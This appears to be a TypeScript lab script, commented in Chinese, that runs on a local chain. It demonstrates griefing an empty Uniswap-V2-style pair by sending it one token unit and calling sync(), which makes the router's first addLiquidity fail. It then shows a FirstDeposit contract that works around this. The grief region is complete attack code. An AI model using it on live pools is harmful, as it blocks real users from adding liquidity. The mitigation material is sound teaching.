// SPDX-License-Identifier: MIT
// V2 空交易对被人捣乱：转入一个最小单位再 sync，路由合约就存不进第一笔；自己的合约存得进。
// #region setup
import { erc20Abi, formatUnits, parseAbi, parseUnits, type Address } from 'viem';
import { v2RouterAbi } from '#starter/abis';
import { deployments, publicClient } from '#starter/clients';
import { showFailure } from '#starter/failures';
import '#starter/local-chain';
import { waitForSuccess } from '#starter/receipts';
import { account, walletClient } from '#starter/wallet';
import { artifact } from '#solidity';

const { wxoc, tka, v2Factory, v2Router } = deployments;
const owner = account.address;
const factory = {
  address: v2Factory,
  abi: parseAbi([
    'function createPair(address tokenA, address tokenB) returns (address pair)',
    'function getPair(address tokenA, address tokenB) view returns (address pair)',
  ]),
  account,
} as const;
const amount = parseUnits('5', 18);
const { timestamp } = await publicClient.getBlock();
const deadline = timestamp + 3600n;

async function approve(token: Address, spender: Address) {
  const call = { address: token, abi: erc20Abi, functionName: 'approve' } as const;
  await waitForSuccess(await walletClient.writeContract({ ...call, args: [spender, amount] }));
}
// #endregion setup

// #region grief
// 捣乱的人建好交易对，转入 1 个最小单位的 TKA，再调用 sync。除了 Gas 费，几乎不花钱。
await waitForSuccess(
  await walletClient.writeContract({ ...factory, functionName: 'createPair', args: [wxoc, tka] }),
);
const pair = await publicClient.readContract({
  ...factory,
  functionName: 'getPair',
  args: [wxoc, tka],
});
await waitForSuccess(
  await walletClient.writeContract({
    address: tka,
    abi: erc20Abi,
    functionName: 'transfer',
    args: [pair, 1n],
  }),
);
await waitForSuccess(
  await walletClient.writeContract({
    address: pair,
    abi: parseAbi(['function sync()']),
    functionName: 'sync',
  }),
);
// 路由合约看到一边的储备量不是 0，就按比例计算，而另一边是 0。
await approve(wxoc, v2Router);
await approve(tka, v2Router);
await showFailure(() =>
  publicClient.simulateContract({
    address: v2Router,
    abi: v2RouterAbi,
    account,
    functionName: 'addLiquidity',
    args: [wxoc, tka, amount, amount, amount, amount, owner, deadline],
  }),
);
// #endregion grief

// #region mend
const { abi, bytecode } = artifact('solidity/empty-pools/FirstDeposit.sol:FirstDeposit');
const { contractAddress } = await waitForSuccess(
  await walletClient.deployContract({ abi, bytecode, args: [v2Factory] }),
);
if (!contractAddress) throw new Error('部署失败');
const first = {
  address: contractAddress,
  abi: parseAbi([
    'function deposit(address tokenA, address tokenB, uint256 amountA, uint256 amountB, uint256 deadline) returns (uint256 liquidity)',
  ]),
  account,
} as const;
await approve(wxoc, first.address);
await approve(tka, first.address);
const { request, result: liquidity } = await publicClient.simulateContract({
  ...first,
  functionName: 'deposit',
  args: [wxoc, tka, amount, amount, deadline],
});
await waitForSuccess(await walletClient.writeContract(request));
console.log(`存入成功，得到 ${formatUnits(liquidity, 18)} 个 LP 代币`);
// 已经有了流动性，再用它就被拒绝。
await showFailure(() =>
  publicClient.simulateContract({
    ...first,
    functionName: 'deposit',
    args: [wxoc, tka, amount, amount, deadline],
  }),
);
// #endregion mend
